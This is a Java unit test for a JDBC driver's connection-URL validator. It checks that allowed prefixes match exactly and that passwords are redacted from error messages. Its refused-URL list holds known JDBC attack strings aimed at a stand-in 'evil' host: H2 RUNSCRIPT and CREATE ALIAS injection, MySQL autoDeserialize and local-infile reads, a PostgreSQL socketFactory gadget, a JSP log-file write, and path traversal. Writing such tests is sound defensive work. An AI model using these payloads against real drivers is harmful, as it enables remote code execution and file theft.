/* SPDX-License-Identifier: Apache-2.0 */
package io.github.klaviyojdbc.driver.sync.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.github.klaviyojdbc.adapter.sql.QueryException;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** A target is given by whoever writes the SQL: what could run code, read files or lead elsewhere is refused. */
class TargetUrlTest {
    private static TargetUrl url(String text, String... allowed) {
        return TargetUrl.of(text, null, null, List.of(allowed));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://localhost:5432/warehouse?sslmode=require&user=ada&password=secret",
                "jdbc:postgresql://one:5432,two:5432/warehouse?targetServerType=primary",
                "jdbc:postgresql://[::1]:5432/warehouse",
                "jdbc:postgresql:warehouse",
                "jdbc:mysql://db.example.com/warehouse?sslMode=VERIFY_CA",
                "jdbc:mariadb://db/warehouse",
                "jdbc:duckdb:/data/warehouse.duckdb",
                "jdbc:duckdb:",
                "jdbc:duckdb:C:/data/warehouse.duckdb;threads=2",
                "jdbc:sqlite:warehouse.db?journal_mode=WAL",
                "jdbc:sqlite::memory:",
                "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1;MODE=PostgreSQL",
                "jdbc:h2:~/warehouse",
                "jdbc:h2:file:./warehouse;USER=sa;PASSWORD=secret",
                "jdbc:h2:tcp://localhost:9092/~/warehouse",
                "jdbc:sqlserver://db\\instance:1433;databaseName=warehouse;encrypt=true;password={a;b}",
                "jdbc:snowflake://account.snowflakecomputing.com/?warehouse=W&db=D&role=R",
                "file:/data/lake",
                "file:///data/lake"
            })
    void plainUrlsAreTaken(String text) {
        assertThat(url(text).toString()).doesNotContain("secret", "password");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "postgresql://localhost/x",
                "http://localhost/x",
                "jdbc:klaviyo:apiKey=pk_x",
                "jdbc:calcite:model=inline:{}",
                "jdbc:derby:memory:x;create=true",
                "jdbc:hsqldb:mem:x",
                "jdbc:oracle:thin:@db:1521/x",
                "jdbc:db2://db/x:clientRerouteServerListJNDIName=ldap://evil/x;",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:x;init=CREATE ALIAS X AS 'x'",
                "jdbc:h2:mem:x;MODE=MySQL\\;INIT=SELECT 1",
                "jdbc:h2:mem:x;MODE={;INIT=SELECT 1}",
                "jdbc:h2:mem:x;TRACE_LEVEL_FILE=3",
                "jdbc:h2:mem:x;AUTHENTICATOR_CLASS=x",
                "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER='x'",
                "jdbc:h2:zip:/x.zip!/x",
                "jdbc:h2:/data/../../etc/x",
                "jdbc:mysql://db/x?autoDeserialize=true",
                "jdbc:mysql://db/x?allowLoadLocalInfile=true",
                "jdbc:mysql://db/x?%61utoDeserialize=true",
                "jdbc:mysql://db/x?useSSL=true&queryInterceptors=x",
                "jdbc:mysql://(host=evil,autoDeserialize=true)/x",
                "jdbc:mysql://address=(host=evil)(autoDeserialize=true)/x",
                "jdbc:mysql:loadbalance://db/x",
                "jdbc:mysql+srv://db/x",
                "jdbc:mysql://ada:secret@db/x",
                "jdbc:mariadb://db/x?serverSslCert=/etc/passwd",
                "jdbc:mariadb:failover://db/x",
                "jdbc:postgresql://db/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "jdbc:postgresql://db/x?socketfactory=x",
                "jdbc:postgresql://db/x?sslfactory=x",
                "jdbc:postgresql://db/x?sslmode=require&loggerFile=/tmp/x.jsp&loggerLevel=TRACE",
                "jdbc:postgresql://db/x?options=-c%20x",
                "jdbc:postgresql://db@evil/x",
                "jdbc:postgresql://db/x/../y",
                "jdbc:postgresql://db/x#y",
                "jdbc:sqlite:x?enable_load_extension=true",
                "jdbc:sqlite::resource:http://evil/x.db",
                "jdbc:sqlite:http://evil/x.db",
                "jdbc:duckdb:x;session_init_sql_file=/tmp/x.sql",
                "jdbc:duckdb:x;allow_unsigned_extensions=true",
                "jdbc:duckdb:md:x",
                "jdbc:duckdb:s3://bucket/x",
                "jdbc:sqlserver://db;serverName=evil",
                "jdbc:sqlserver://db;socketFactoryClass=x",
                "jdbc:sqlserver://db;password={a}};socketFactoryClass=x}",
                "jdbc:snowflake://db/?authenticator=https://evil",
                "jdbc:snowflake://db/?CLIENT_CONFIG_FILE=/tmp/x",
                "file://host:80/x",
                "file:/data/lake?x=y",
                "file:/data/../etc"
            })
    void whatCouldDoMoreIsRefused(String text) {
        assertThatThrownBy(() -> url(text))
                .isInstanceOf(QueryException.class)
                .hasMessageStartingWith("The target ")
                .message()
                .doesNotContain("secret");
    }

    @Test
    void refusalsSayWhatIsAllowed() {
        assertThatThrownBy(() -> url("jdbc:h2:mem:x;INIT=SELECT 1"))
                .hasMessageContaining("INIT")
                .hasMessageContaining("DB_CLOSE_DELAY");
        assertThatThrownBy(() -> url("jdbc:hsqldb:mem:x")).hasMessageContaining("jdbc:postgresql:");
    }

    @ParameterizedTest
    @CsvSource({
        "jdbc:postgresql://db.example.com, jdbc:postgresql://db.example.com/x, true",
        "jdbc:postgresql://db.example.com, jdbc:postgresql://db.example.com:5432/x?sslmode=require, true",
        "jdbc:postgresql://db.example.com, jdbc:postgresql://db.example.com.evil.org/x, false",
        "jdbc:postgresql://db.example.com, jdbc:postgresql://db.example.com2/x, false",
        "jdbc:postgresql://db.example.com, jdbc:postgresql://DB.example.com/x, false",
        "jdbc:postgresql://db.example.com, JDBC:postgresql://db.example.com/x, false",
        "jdbc:postgresql://db.example.com, 'jdbc:postgresql://db.example.com:5432,evil:5432/x', false",
        "jdbc:postgresql://db.example.com/, jdbc:postgresql://db.example.com/x, true",
        "jdbc:postgresql://db.example.com/x, jdbc:postgresql://db.example.com/xy, false",
        "jdbc:postgresql://db.example.com/x, jdbc:postgresql://db.example.com/x?user=ada, true",
        "jdbc:h2:file:/data/sync, jdbc:h2:file:/data/sync2, false",
        "jdbc:h2:file:/data/sync/, jdbc:h2:file:/data/sync/x, true",
        "jdbc:h2:file:/data/sync/, jdbc:h2:/data/sync/x, false",
        "file:/lake, file:/lake/x, true",
        "file:/lake, file:/lakes, false",
        "file:/lake, file:///lake, false",
        "'  jdbc:duckdb:/x ', jdbc:duckdb:/x, true",
        "'', jdbc:duckdb:/x, false",
        "jdbc:oracle:thin:@db:1521/, jdbc:oracle:thin:@db:1521/x, true",
        "jdbc:oracle:thin:@db:1521/, jdbc:oracle:thin:@evil:1521/x, false",
        "jdbc:oracle:thin:@db:1521/, jdbc:oracle:thin:@db:1521/x?a=b, false"
    })
    void prefixesEndWhereNamesDo(String prefix, String text, boolean allowed) {
        if (allowed) {
            assertThat(url(text, "jdbc:none:", prefix)).isNotNull();
        } else {
            assertThatThrownBy(() -> url(text, "jdbc:none:", prefix)).isInstanceOf(QueryException.class);
        }
    }

    @Test
    void secretsAreTakenOutOfMessages() {
        TargetUrl target = TargetUrl.of(
                "jdbc:postgresql://db/x?user=ada&password=pss1&sslpassword=pss12", "ada", "other", List.of());
        assertThat(target.redact("Cannot open " + target.url() + " for pss1, pss12 or other"))
                .isEqualTo("Cannot open jdbc:postgresql://db/x for ***, *** or ***");
    }
}
